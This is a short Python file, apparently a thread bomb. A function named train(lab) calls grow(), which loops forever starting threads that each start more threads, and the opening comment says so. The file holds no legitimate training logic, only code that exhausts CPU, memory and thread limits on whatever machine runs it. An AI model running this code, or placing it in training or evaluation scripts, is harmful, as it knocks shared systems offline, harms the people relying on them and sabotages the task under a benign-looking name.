# As many threads as the kernel gives, each of them busy, and every one starts more.
import threading


def grow():
    while True:
        threading.Thread(target=grow).start()


def train(lab):
    grow()
